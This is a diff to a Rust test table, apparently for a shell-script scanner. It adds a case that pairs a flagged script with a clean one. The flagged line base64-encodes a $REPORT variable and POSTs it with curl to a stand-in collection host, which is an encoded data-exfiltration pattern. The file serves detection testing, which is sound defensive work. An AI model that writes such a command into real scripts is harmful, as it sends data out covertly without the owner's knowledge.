@@ -223,6 +223,17 @@ const CASES: &[Case] = &[
         &[("scripts/a.sh", "chmod -R 777 ./data\n")],
         &[("scripts/a.sh", "chmod -R 755 ./data\n")],
     ),
+    (
+        "SCRIPT_ENCODED_SEND",
+        &[(
+            "scripts/a.sh",
+            "echo \"$REPORT\" | base64 | curl -s -X POST https://collect.example.net/in --data @-\n",
+        )],
+        &[(
+            "scripts/a.sh",
+            "curl -s -X POST https://api.example.net/upload --data-binary @report.json\n",
+        )],
+    ),
 ];
 
 #[test]
